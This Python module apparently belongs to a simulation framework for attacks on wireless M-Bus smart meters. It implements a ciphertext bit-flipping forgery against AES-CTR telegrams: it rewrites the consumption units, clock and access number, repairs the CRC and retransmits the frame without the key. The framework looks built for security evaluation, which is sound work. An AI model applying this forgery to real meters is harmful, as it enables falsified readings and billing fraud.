"""Bit flips under AES-CTR: choose the value that a meter says, without its key."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field
from datetime import datetime, timedelta

from attacks.attack import Can, Outcome, Steps, attack, form
from attacks.parts import ell_session as ell
from attacks.parts.sent_frames import Shot, outcomes_of
from attacks.reach import Reach
from sim.core.bundle import Heard
from sim.truth.ground_truth import Truth, fingerprint
from wmbus.dates import encode_f
from wmbus.telegram import parse

CHOSEN = "a value chosen by turning bits over (extended link layer)"


@attack(
    id="radio.chosen_bits",
    title="Turn bits over under AES-CTR and mend the CRC",
    threats=["L18"],
    can=Can.HEAR | Can.SPEAK,
    ics=["T0856", "T0860"],
    weakness={"portal.pin_profile": False},
    seen_as="refused: profile",
    forms={CHOSEN: form("AES-CTR in the extended link layer, own address", "ciphertext, access number")},
)
@dataclass
class ChosenBits:
    """A bit of ciphertext turned over is that bit of the plaintext turned over. Who knows what a telegram says (the
    display, read at that minute) turns its units into any others, moves its clock and both access numbers on by one,
    and the payload CRC along: no key is used, and what arrives is as well formed as what the meter sends.

    `shown`: telegram -> (units on the display, the date and time that it shows). `security`: the column that it counts
    in. Counted are readings with the chosen units.
    """

    shown: Mapping[bytes, tuple[int, datetime]] = field(default_factory=dict)
    security: Mapping[bytes, str] = field(default_factory=dict)
    units: int = 4_711
    delay_s: float = 5.0
    shots: list[Shot] = field(default_factory=list)

    def run(self, reach: Reach) -> Steps:
        reach.listen(lambda heard: self._heard(reach, heard))
        yield reach.wait(0)

    def _heard(self, reach: Reach, heard: Heard) -> None:
        if heard.telegram in self.shown:
            reach.go(self._speak(reach, heard.telegram))

    def _speak(self, reach: Reach, frame: bytes) -> Steps:
        yield reach.wait(self.delay_s)
        units, at = self.shown[frame]
        later = at + timedelta(minutes=1)
        acc = frame[12]
        turn = ell.xor(units.to_bytes(3, "little"), self.units.to_bytes(3, "little"))
        clock = ell.xor(encode_f(at), encode_f(later))
        moved = (acc + 1) % 256
        before, within = ell.PROFILE_B if self.security[frame] == "mode7" else (0, 0)
        changes = {
            ell.ACC_AT + before: bytes((acc ^ moved,)),
            ell.UNITS_AT + before + within: turn,
            ell.CLOCK_AT + before + within: clock,
        }
        forged = ell.turned(frame, changes, moved)
        reach.note("speak", f"{CHOSEN}: telegram {fingerprint(forged)}")
        address = str(parse(frame).address)
        self.shots.append(Shot(CHOSEN, self.security[frame], address, reach.speak(forged), frame))

    def outcomes(self, truth: Truth) -> list[Outcome]:
        return outcomes_of(self.shots, truth, lambda row, _shot: row.units == self.units)
